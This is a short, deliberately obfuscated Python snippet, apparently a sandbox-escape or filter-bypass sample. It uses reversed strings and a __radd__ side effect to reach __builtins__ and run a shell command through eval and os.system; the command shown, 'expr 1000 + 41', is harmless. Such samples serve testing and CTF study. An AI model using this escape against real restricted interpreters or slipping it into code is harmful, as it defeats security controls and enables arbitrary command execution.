def rev(t):
    return t[::-1]
E = rev("__slabolg__")
d = {"a": "zone"}
class O:
    def __radd__(self, x):
        x["a"] = E
sum([O()], d)
getattr(rev, d["a"])[rev("__snitliub__")].eval("__import__('os').system('expr 1000 + 41')")
